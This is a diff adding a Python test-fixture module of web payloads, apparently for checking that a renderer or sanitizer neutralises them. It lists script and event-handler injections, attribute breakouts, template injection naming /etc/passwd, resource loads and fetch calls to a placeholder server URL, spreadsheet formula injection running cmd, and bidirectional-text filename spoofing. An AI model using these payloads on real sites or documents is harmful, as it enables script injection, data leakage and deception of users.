@@ -1,0 +1,96 @@
+"""Texts that would do something if a page let them: run a script, call a server, or break out of their place.
+
+``pwn()`` is noted by the test browser, ``URL`` stands for a listening server. Common public techniques, written here.
+"""
+
+SCRIPTS = [
+    "<script>pwn()</script>",
+    "<SCRIPT>pwn()</SCRIPT >",
+    "<script src=URL/a.js></script>",
+    "<script type=module>pwn()</script>",
+    "</script><script>pwn()</script>",
+    "<!--</script><script>pwn()</script>-->",
+    "</title><script>pwn()</script>",
+    "</style><script>pwn()</script>",
+    "</textarea><script>pwn()</script>",
+    "</table></div><script>pwn()</script>",
+    "<svg><script>pwn()</script></svg>",
+    "<svg><script href=URL/b.js></script></svg>",
+    "<img src=x onerror=pwn()>",
+    '<img src="data:image/png;base64,AA==" onerror="pwn()">',
+    "<img/src/onerror=pwn()>",
+    "<svg onload=pwn()>",
+    "<svg><animate onbegin=pwn() attributeName=x dur=1s>",
+    "<body onload=pwn()>",
+    "<details open ontoggle=pwn()>x</details>",
+    "<input autofocus onfocus=pwn()>",
+    "<video><source onerror=pwn()></video>",
+    "<audio src=x onerror=pwn()></audio>",
+    "<marquee onstart=pwn()>x</marquee>",
+    "<style>@keyframes k{}</style><b style=animation-name:k onanimationstart=pwn()>x</b>",
+    "<iframe srcdoc='<script>parent.pwn()</script>'></iframe>",
+    "<iframe src=javascript:parent.pwn()></iframe>",
+    "<object data=javascript:pwn()></object>",
+    "<embed src=javascript:pwn()>",
+    "<a href=javascript:pwn()>go</a>",
+    '<a href="java&#10;script:pwn()">go</a>',
+    "<svg><a xlink:href=javascript:pwn()><text y=20>go</text></a></svg>",
+    "<form action=javascript:pwn()><button>go</button></form>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=pwn()>",
+    "<template shadowrootmode=open><img src=x onerror=pwn()></template>",
+    "<noscript><p title='</noscript><img src=x onerror=pwn()>'>",
+]
+BREAKS = [
+    '" onmouseover="pwn()" autofocus tabindex=1 onfocus="pwn()" x="',
+    "' onfocus='pwn()' autofocus tabindex=1 x='",
+    '"><img src=x onerror=pwn()>',
+    "'><svg/onload=pwn()>",
+    '\\"><script>pwn()</script>',
+    "\\u003cscript\\u003epwn()\\u003c/script\\u003e",
+    "&lt;script&gt;pwn()&lt;/script&gt;",
+    "&#60;img src=x onerror=pwn()&#62;",
+    "{{ ''.__class__ }}{% raw %}<script>pwn()</script>",
+    "{% include '/etc/passwd' %}${pwn()}#{pwn()}",
+    "[go](javascript:pwn()) ![x](URL/m.png)",
+    "```mermaid\ngraph TD; A[<img src=x onerror=pwn()>]\n```",
+    "<plaintext>",
+    "<!-- <textarea>",
+]
+CALLS = [
+    "<img src=URL/img.png>",
+    '<b style="background:url(URL/style.png)">x</b>',
+    '<b style="mask:url(URL/mask.svg)">x</b>',
+    '<b style="-webkit-mask-image:url(URL/m2.svg);list-style:url(URL/l.png)">x</b>',
+    "<style>@import url(URL/i.css);*{cursor:url(URL/c.cur),auto}</style>",
+    "<style>@font-face{font-family:f;src:url(URL/f.woff)}*{font-family:f}</style>",
+    "<link rel=stylesheet href=URL/l.css>",
+    "<link rel=preconnect href=URL>",
+    "<link rel=prefetch href=URL/pf>",
+    "<meta http-equiv=refresh content='0;url=URL/refresh'>",
+    "<base href=URL/base/>",
+    "<iframe src=URL/frame></iframe>",
+    "<object data=URL/object></object>",
+    "<video src=URL/v.mp4 poster=URL/p.png></video>",
+    "<svg><image href=URL/s.png /><use href=URL/u.svg#a /></svg>",
+    "<input type=image src=URL/input.png>",
+    "<table background=URL/t.png><td>x</table>",
+    '<a href="URL/link" ping="URL/ping">link</a>',
+    "<script>fetch('URL/fetch')</script><img src=x onerror=\"new Image().src='URL/late'\">",
+    "<span style='fill:url(URL/fill.svg#a);clip-path:url(URL/clip.svg#a)'>x</span>",
+]
+OTHERS = [
+    '=HYPERLINK("URL/sheet","click")',
+    "=cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\u202e\u2066evil\u2069\u202c gnp.exe",
+    "\u05e9\u05dc\u05d5\u05dd <script>pwn()</script> \u0645\u0631\u062d\u0628\u0627",
+    "\x00<scr\x00ipt>pwn()</scr\x00ipt>",
+    "\u2028<script>pwn()</script>\u2029",
+    "x" * 6000 + "<script>pwn()</script>",
+    "data:text/html,<script>pwn()</script>",
+]
+
+
+def payloads(url: str) -> list[str]:
+    """Every form, calling this server."""
+    return [form.replace("URL", url) for form in [*SCRIPTS, *BREAKS, *CALLS, *OTHERS]]
